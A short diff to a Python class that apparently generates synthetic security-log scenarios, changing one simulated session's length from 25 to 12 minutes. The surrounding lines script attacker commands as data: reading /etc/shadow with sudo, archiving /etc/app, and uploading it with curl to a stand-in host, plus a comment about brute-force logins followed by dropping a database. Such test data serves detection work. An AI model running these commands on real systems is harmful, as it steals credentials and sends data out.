@@ -374,7 +374,7 @@ class Gen:
         p = ops[1]
         h = self.fresh(p, self.team[p][1])
         t0 = WEEK + 4 * D + 22 * H + 5 * M
-        self.session(p, h, t0, t0 + 25 * M, cmds=keep([
+        self.session(p, h, t0, t0 + 12 * M, cmds=keep([
             ("sudo", "cat /etc/shadow"), ("ssh.command", "tar czf /tmp/x.tgz /etc/app"),
             ("ssh.command", "curl -T /tmp/x.tgz https://203.0.113.7/upload")]))
         # 4. many failed logins, then one that works, then the database is dropped
